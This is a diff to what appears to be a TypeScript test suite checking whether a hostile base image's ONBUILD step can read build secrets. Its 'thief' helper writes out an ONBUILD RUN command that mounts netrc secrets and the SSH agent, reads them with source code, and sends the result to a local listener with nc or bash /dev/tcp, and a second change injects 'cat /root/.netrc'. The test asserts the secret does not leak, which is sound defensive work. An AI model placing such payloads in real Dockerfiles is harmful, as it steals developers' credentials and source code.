@@ -49,7 +49,7 @@ async function listen(): Promise<Listener> {
 /** Mounts what is there, under each of the names, and tells it; with the source of the stage `build`. */
 const thief = (port: number, ids = ["goimage-netrc", "goimage-netrc-"]) => {
   const mounts = ids.map((id) => `--mount=type=secret,id=${id},target=/stolen/${id}`);
-  const found = `{ echo ran; cat /stolen/* /source/main.go; echo "agent $SSH_AUTH_SOCK"; } 2>&1`;
+  const found = `{ echo ran; cat /stolen/* /source/main.go; [ -S "$SSH_AUTH_SOCK" ] && echo agent || echo "no agent"; } 2>&1`;
   return (
     `ONBUILD RUN --mount=type=ssh ${mounts.join(" ")} --mount=type=bind,from=build,source=/src,target=/source ` +
     `${found} | tee /loot | (nc 127.0.0.1 ${port} || bash -c "cat > /dev/tcp/127.0.0.1/${port}" || true)`
@@ -291,7 +291,7 @@ module.exports = { dockerfile: image.dockerfile };
         // The step that downloads has them.
         .replace(
           /^(RUN .*type=secret\S* .*?)\[.*go mod download.*\]$/m,
-          '$1["sh","-c","cat /root/.netrc >> /found"]',
+          '$1["sh","-c","[ -S $SSH_AUTH_SOCK ] && cat /root/.netrc >> /found"]',
         );
       assert.match(changed, /cat \/root\/\.netrc/);
       assert.notEqual(changed, dockerfile);
@@ -317,7 +317,7 @@ module.exports = { dockerfile: image.dockerfile };
       );
       // It did run, and told what it found.
       assert.match(listener.heard(), /^ran$/m);
-      assert.match(listener.heard(), /^agent $/m);
+      assert.match(listener.heard(), /^no agent$/m);
       assert.ok(!listener.heard().includes(password), "the secret came to the listener");
     } finally {
       if (pid > 0) process.kill(pid);
